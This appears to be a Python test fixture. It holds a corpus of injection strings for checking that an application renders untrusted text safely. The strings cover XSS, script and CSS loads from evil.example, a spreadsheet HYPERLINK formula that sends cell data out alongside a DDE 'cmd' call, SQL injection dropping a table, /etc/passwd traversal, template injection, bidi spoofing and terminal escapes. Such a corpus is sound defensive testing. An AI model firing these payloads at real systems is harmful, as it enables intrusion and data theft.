"""What strangers may write: a corpus of texts that try to run, to hide, to turn, to swell or to calculate.

Each sets `window.__pwned`, calls `alert` or asks a host for something, where it gets the chance.
"""

from __future__ import annotations

import itertools

LONG = 100_000
HALF_PAIR = "half \ud800 a pair"
"""Only JSON can carry it, escaped; no text in UTF-8 can."""

CORPUS: dict[str, str] = {
    "script": "<script>window.__pwned=1;alert(1)</script>",
    "handler": '"\'><img src=x onerror="window.__pwned=1;alert(2)"><svg/onload=alert(3)>',
    "frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><base href="https://evil.example/">',
    "closing": '</title></textarea></style></script></template><script src="https://evil.example/x.js"></script>',
    "address": "javascript:window.__pwned=1;alert(4)//https://example.org/",
    "encoded": "java&#x09;script:alert(5) &lt;script&gt;alert(6)&lt;/script&gt; %3Cscript%3Ealert(7)%3C/script%3E",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==",
    "user in address": "https://good.example@evil.example/\"onmouseover='window.__pwned=1' x='",
    "style": '"; } body { display: none } @import "https://evil.example/x.css"; a{background:url(https://evil.example)}',
    "comment": "--!> --> <!-- <![CDATA[ ]]> <?php echo 1 ?> <%= 7*7 %>",
    "template": "{{ 7*7 }}{% raw %}{{ ''.__class__.__mro__ }}{# {0.__class__} %(name)s ${7*7} #{7*7} {n} {}",
    "bidi": "safe\u202egnp.exe\u2066 invoice \u202d\u2067\u200f\u061c end",
    "zero width": "\u200bLa\u200brk\ufeff \u2060Ex\u00adam\u034fple\u3164\u2800\u115f",
    "arabic": "\u0645\u062d\u0645\u062f \u0639\u0628\u062f \u0627\u0644\u0644\u0647 (100%) <b>\u0635</b>",
    "hebrew": "\u05d3\u05d5\u05d3 \u05d1\u05df-\u05d2\u05d5\u05e8\u05d9\u05d5\u05df 3\u20134, A/B",
    "persian": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u0628\u0631\u0648\u0645 123 \u06f1\u06f2\u06f3",
    "stacked": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a" * 6,
    "emoji": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308" * 8,
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"Click")+cmd|\' /C calc\'!A0',
    "wide formula": "\uff1d1+1 \t@SUM(1+1)*cmd|' /C calc'!A0",
    "sql": "'; DROP TABLE stored.creators; -- \" OR 1=1 /* $1 ? :x",
    "markdown": "[click](javascript:alert(9)) ![x](https://evil.example/x) | a | b |\n# h\n```\n<b onclick=alert(1)>",
    "nul and escapes": "a\x00b\x1b[31mred\x1b[2J\x1b]0;title\x07\x08\x7f\x9b31m\r\nX-Header: 1\u2028\u2029\x85",
    "one word": "W" * 400 + "\u4e2d" * 200 + "\u0e01" * 200,
    "homoglyph": "\u0410d\u043ein\u0456strat\u043er \u2024\u2024/\u2024\u2024/etc/passwd ../../../index.html con.html",
    "pattern": "(a+)+$ [a-z]{1,99999} \\d\\\\ .* ^$ (?=x) \\u0000 \\x00 %s %n %00",
}


def long_text(length: int = LONG) -> str:
    """Every text of the corpus, again and again, to `length` characters."""
    every = " ".join(CORPUS.values())
    return "".join(itertools.islice(itertools.cycle(every), length))
